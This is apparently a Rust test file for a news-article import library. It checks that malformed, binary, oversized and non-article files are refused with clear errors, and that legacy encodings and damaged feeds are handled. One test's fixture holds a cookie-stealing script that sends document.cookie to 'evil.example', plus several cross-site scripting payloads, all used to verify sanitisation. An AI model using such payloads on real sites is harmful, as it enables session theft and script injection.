//! Bad input gets a clear error naming the file and the reason, and nothing already stored
//! changes.

use std::sync::atomic::AtomicBool;

use briefing_core::Store;
use briefing_core::import::{ImportInput, ImportItem, ImportStatus, import};
use briefing_core::store::ArticleFilter;

use crate::shared_fixtures_dir;

fn snapshot(store: &Store) -> Vec<(i64, String, String)> {
    let mut stmt = store
        .connection()
        .prepare("SELECT id, title, content_hash FROM articles ORDER BY id")
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

fn import_one(store: &mut Store, path: &std::path::Path) -> Vec<ImportItem> {
    import(
        store,
        &[ImportInput::Path(path.into())],
        |_| {},
        &AtomicBool::new(false),
    )
    .items
}

#[test]
fn bad_files_are_refused_by_name_and_the_store_is_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = Store::open(&dir.path().join("db.sqlite")).unwrap();
    import_one(
        &mut store,
        &shared_fixtures_dir().join("kazinform-atyrau-brest.html"),
    );
    let before = snapshot(&store);
    assert_eq!(before.len(), 1);

    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("empty.txt", vec![], "empty"),
        ("blank.md", b"  \n\n\t \n".to_vec(), "empty"),
        (
            "scan.pdf.txt",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj".to_vec(),
            "PDF",
        ),
        (
            "photo.html",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
            "PNG image",
        ),
        (
            "random.txt",
            (0..4096u32)
                .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
                .collect(),
            "binary",
        ),
        ("word.txt", b"PK\x03\x04\x14\0\x06\0".to_vec(), "ZIP"),
        (
            "nothing.html",
            b"<html><head><script>alert(1)</script></head><body><nav>Home</nav></body></html>"
                .to_vec(),
            "no article text",
        ),
        (
            "notafeed.xml",
            b"<?xml version='1.0'?><config><value>1</value></config>".to_vec(),
            "not an RSS or Atom feed",
        ),
        (
            "broken.rss",
            b"<rss><channel><title>x</title>".to_vec(),
            "feed could not be read",
        ),
        (
            "noitems.rss",
            b"<rss><channel><title>x</title></channel></rss>".to_vec(),
            "feed has no items",
        ),
    ];
    for (name, bytes, reason) in &cases {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let items = import_one(&mut store, &path);
        assert_eq!(items.len(), 1, "{name}");
        assert_eq!(items[0].status, ImportStatus::Failed, "{name} is refused");
        assert!(
            items[0].input.ends_with(name),
            "the report names {name}: {:?}",
            items[0].input
        );
        let message = items[0].message.clone().unwrap_or_default();
        assert!(
            message.contains(reason),
            "{name}: the reason mentions {reason:?}: {message}"
        );
    }
    assert_eq!(snapshot(&store), before, "nothing already stored changed");
    assert_eq!(store.integrity_check().unwrap(), "ok");
}

#[test]
fn an_oversized_file_is_refused_by_its_size_without_reading_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.txt");
    // A sparse 50 MB file: refusing it must not depend on reading it.
    let f = std::fs::File::create(&path).unwrap();
    f.set_len(50 * 1024 * 1024).unwrap();
    let mut store = Store::open_in_memory().unwrap();
    let started = std::time::Instant::now();
    let items = import_one(&mut store, &path);
    let message = items[0].message.clone().unwrap();
    assert!(
        message.contains("52428800 bytes") && message.contains("limit"),
        "{message}"
    );
    // Generous bound: reading and scanning 50 MB would take far longer in a debug build.
    assert!(started.elapsed().as_secs() < 5, "refused without reading");
    assert_eq!(store.count_articles().unwrap(), 0);
}

#[test]
fn legacy_encodings_are_detected_and_named() {
    let dir = tempfile::tempdir().unwrap();
    let text = "Визит в Брест\n\nБРЕСТ, 21 июня (БЕЛТА) – Делегация Атырауской области Казахстана находится в Бресте с официальным визитом.";
    let (cp1251, _, _) = encoding_rs::WINDOWS_1251.encode(text);
    let path = dir.path().join("cp1251.txt");
    std::fs::write(&path, &cp1251).unwrap();
    let mut store = Store::open_in_memory().unwrap();
    let items = import_one(&mut store, &path);
    assert_eq!(items[0].status, ImportStatus::Imported, "{items:?}");
    assert!(
        items[0]
            .message
            .as_deref()
            .unwrap_or("")
            .contains("windows-1251"),
        "the import says which encoding: {items:?}"
    );
    let a = store.article(items[0].article_id.unwrap()).unwrap();
    assert_eq!(a.summary.title, "Визит в Брест");
    assert_eq!(a.summary.dateline.as_deref(), Some("Брест"));
    assert_eq!(a.summary.language, "ru");
}

#[test]
fn hostile_html_stores_none_of_its_scripts_or_handlers() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.html");
    std::fs::write(&path, r#"<html><head><title>Talks in Minsk | Site</title>
        <script>fetch('https://evil.example/steal?c='+document.cookie)</script>
        <style>body{background:url(javascript:alert(1))}</style></head>
        <body onload="alert('onload')"><article>
        <p>MINSK (BelTA) - The delegation of Uzbekistan's Samarkand Region held talks in Minsk on textiles and tourism, and on a joint flax mill.</p>
        <p>Second <img src=x onerror="alert('img')">paragraph with <a href="javascript:alert('link')">a link</a> inside.</p>
        <iframe src="https://evil.example/frame">iframe text</iframe>
        <svg><script>alert('svg')</script><text>svg text</text></svg>
        <object data="x.swf">object text</object><noscript>noscript text</noscript>
        <template><p>template text</p></template>
        </article></body></html>"#).unwrap();
    let mut store = Store::open_in_memory().unwrap();
    let items = import_one(&mut store, &path);
    let a = store
        .article(items[0].article_id.expect("imported"))
        .unwrap();
    let text = a.paragraphs.join("\n");
    assert!(
        text.contains("Second paragraph with a link inside."),
        "{text}"
    );
    for bad in [
        "alert",
        "evil",
        "cookie",
        "iframe text",
        "svg text",
        "object text",
        "noscript text",
        "template text",
        "<",
        "javascript",
    ] {
        assert!(
            !text.contains(bad) && !a.summary.title.contains(bad),
            "{bad:?} reached the stored text: {text}"
        );
    }
    let hits = store
        .search("onerror", &ArticleFilter::default(), 5)
        .unwrap();
    assert!(hits.is_empty(), "handler attributes are not indexed either");
}

#[test]
fn a_feed_with_a_damaged_item_imports_the_rest_and_reports_the_damage() {
    let mut store = Store::open_in_memory().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("damaged.xml");
    std::fs::write(&path, "<rss><channel>\
        <item><title>Good one</title><description>The first good item about a visit to Brest.</description></item>\
        <item><title>Broken <b></title><description>unclosed markup breaks the XML</description></item>\
        <item><title>Good two</title><description>The second good item about a visit to Atyrau.</description></item>\
        </channel></rss>").unwrap();
    let items = import_one(&mut store, &path);
    let imported: Vec<_> = items
        .iter()
        .filter(|i| i.status == ImportStatus::Imported)
        .map(|i| i.title.clone().unwrap())
        .collect();
    assert_eq!(imported, vec!["Good one", "Good two"]);
    let failed: Vec<_> = items
        .iter()
        .filter(|i| i.status == ImportStatus::Failed)
        .collect();
    assert_eq!(failed.len(), 1);
    assert!(failed[0].input.ends_with("damaged.xml"));
    assert!(
        failed[0].message.as_deref().unwrap().contains("item 2"),
        "{failed:?}"
    );
}
